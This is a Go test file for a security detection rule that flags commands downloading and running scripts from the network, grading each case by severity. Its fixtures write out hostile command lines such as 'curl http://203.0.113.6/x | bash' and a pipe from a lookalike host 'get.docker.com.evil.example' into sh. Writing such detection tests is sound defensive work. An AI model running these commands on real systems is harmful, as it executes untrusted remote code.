package commands_test

import (
	"testing"

	"telltale/detect"
	"telltale/detect/commands"
	"telltale/detect/detecttest"
)

func TestCodeFromTheNetwork(t *testing.T) {
	const sudo = `03:00:00 sudo-command user.name=amy user.effective.name=root process.command_line=`
	const audit = `03:00:00 process-started user.name=www-data process.command_line=`
	for _, tc := range []struct {
		name, events string
		level        detect.Level
		count        int
	}{
		{"from an address", audit + `"sh -c curl -s http://203.0.113.6/x | bash"`, detect.High, 1},
		{"from an address by https", audit + `"sh -c curl -sk https://203.0.113.6/x | bash"`, detect.High, 1},
		{"from a host with a name", sudo + `"/bin/sh -c curl -fsSL https://tools.example.org/i.sh | sh"`, detect.Medium, 1},
		{"from a maker that all trust", sudo + `"/bin/sh -c curl -fsSL https://get.docker.com | sh"`, detect.Low, 1},
		{"from a host that is named like one", sudo + `"/bin/sh -c curl -fsSL https://get.docker.com.evil.example/x | sh"`, detect.Medium, 1},
		{"fetched, not run", sudo + `"/usr/bin/curl -o /tmp/x https://tools.example.org/i.sh"`, detect.Info, 0},
		{"fetched and read", audit + `"sh -c curl -s https://tools.example.org/status | grep ok"`, detect.Info, 0},
		{"an automaton's program", sudo + `"/bin/sh -c echo BECOME-SUCCESS-x ; /usr/bin/python3 /tmp/ansible-tmp-1/x.py"`, detect.Info, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := detecttest.Of(detecttest.Run(t, commands.New(), detecttest.Scene(), tc.events), detect.RemoteScript)
			if len(got) != tc.count || tc.count > 0 && got[0].Level != tc.level {
				t.Errorf("%+v", got)
			}
		})
	}
}

func TestAnInstallerInAHistoryIsNoAlarm(t *testing.T) {
	for line, want := range map[string]detect.Level{`"curl -fsSL https://get.docker.com | sh"`: detect.Low, `"curl http://203.0.113.6/x | sh"`: detect.Critical} {
		got := detecttest.Of(detecttest.Run(t, commands.New(), detecttest.Scene(), "- shell-command user.name=amy shell.history=/home/amy/.bash_history process.command_line="+line), detect.Command)
		if len(got) != 1 || got[0].Level != want {
			t.Errorf("%s: %+v", line, got)
		}
	}
}
